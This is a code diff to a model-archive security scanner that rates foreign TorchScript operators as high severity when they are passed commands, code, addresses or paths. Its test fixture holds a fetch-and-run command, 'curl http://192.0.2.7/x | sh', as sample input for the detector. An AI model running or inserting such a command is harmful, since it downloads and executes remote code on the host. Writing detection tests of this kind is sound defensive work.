@@ -8,6 +8,7 @@ from toadstone.core.check import Check, check
 from toadstone.core.fact import Fact, Operator
 from toadstone.core.finding import Finding, Severity
 from toadstone.core.place import Place
+from toadstone.symbols.arguments import Look, looks_of
 
 _FILES = frozenset({"from_file", "save", "load", "_save_for_mobile", "save_to_file"})
 _REMOTE = frozenset({"rpc_sync", "rpc_async", "rpc_remote"})
@@ -55,7 +56,9 @@ class TorchscriptOperator(Check):
     ## How it decides
 
     Every call in the archive's ``code/`` folder is read from its syntax tree. Calls of file operators, of ``prim.PythonOp``
-    (a Python function of the host) and of remote procedure calls are high; operators of a namespace that neither PyTorch nor its domain libraries define are medium, since they need foreign native code.
+    (a Python function of the host) and of remote procedure calls are high; operators of a namespace that neither PyTorch nor
+    its domain libraries define are medium, since they need foreign native code, and high when they are given a command,
+    code, an address or a path.
 
     ## What it misses
 
@@ -83,10 +86,13 @@ class TorchscriptOperator(Check):
             message = f"TorchScript code calls {fact.node}, which {deed} when the model runs."
             yield self.finding(fact.place, message, key=fact.node, symbol=fact.node)
         elif domain.startswith("ops.") and domain.split(".")[1] not in _STANDARD | self.allow:
+            looks = looks_of([value for _, value in fact.arguments])
+            given = [look.value for look in Look if look in looks and look is not Look.ENCODED]
             yield self.finding(
                 fact.place,
-                f"TorchScript code calls {fact.node}, an operator that needs a native library of its own.",
-                severity=Severity.MEDIUM,
+                f"TorchScript code calls {fact.node}, an operator that needs a native library of its own"
+                + (f", with {' and '.join(given)}." if given else "."),
+                severity=Severity.HIGH if given else Severity.MEDIUM,
                 key=fact.node,
                 symbol=fact.node,
             )
@@ -96,6 +102,7 @@ class TorchscriptOperator(Check):
         """Give an operator that maps files, one that calls Python, a remote call, and a foreign one."""
         place = Place("model.pt", "model/code/__torch__.py")
         yield Operator(place, "torchscript:ops.prim", "PythonOp", "ops.prim.PythonOp")
+        yield Operator(place, "torchscript:ops.acme", "exec", "ops.acme.exec", (("0", "curl http://192.0.2.7/x | sh"),))
         yield Operator(place, "torchscript:ops.rpc", "rpc_sync", "ops.rpc.rpc_sync")
         yield Operator(Place("model.pt", "model/code/__torch__.py"), "torchscript:torch", "from_file", "torch.from_file")
         yield Operator(Place("model.pt", "model/code/__torch__.py"), "torchscript:ops.acme", "run", "ops.acme.run")
